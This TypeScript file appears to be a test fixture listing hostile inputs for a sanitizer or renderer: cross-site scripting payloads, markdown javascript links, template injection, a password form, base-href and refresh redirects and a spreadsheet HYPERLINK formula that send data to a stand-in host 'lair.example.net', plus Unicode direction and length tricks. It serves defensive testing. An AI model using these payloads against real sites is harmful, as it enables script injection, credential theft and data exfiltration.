/** Texts that somebody sends who means no good: programs, tricks of writing direction, letters without end, cells that count. */

/** Where they would send what they find. Nothing may be asked of it. */
export const lair = 'https://lair.example.net';

const run = 'window.ran=1';

export const hostileTexts: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${lair}/pixel.png">`,
  `<svg onload="${run}"><circle r="9"/></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">a link</a>`,
  `[a link](javascript:${run})`,
  `[another](data:text/html,<script>${run}</script>)`,
  `![a picture](${lair}/markdown.png)`,
  `![x](x"onerror="${run})`,
  `<details open ontoggle="${run}">x</details>`,
  `<style>*{display:none}</style>`,
  `<base href="${lair}/">`,
  `<meta http-equiv="refresh" content="0;url=${lair}/">`,
  `<form action="${lair}/"><input name="password" type="password"></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `</title></textarea></script><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `=HYPERLINK("${lair}/"&A1,"see")`,
  '\u202Egnp.exe and \u2066isolated without an end',
  `Z${'\u0301\u0489\u035C'.repeat(60)} letters on letters`,
  '\u{1F468}\u200D\u{1F469}\u200D'.repeat(30),
  'W'.repeat(140),
  `${'ﷺ'.repeat(40)}${'\u200B'.repeat(20)}`,
];
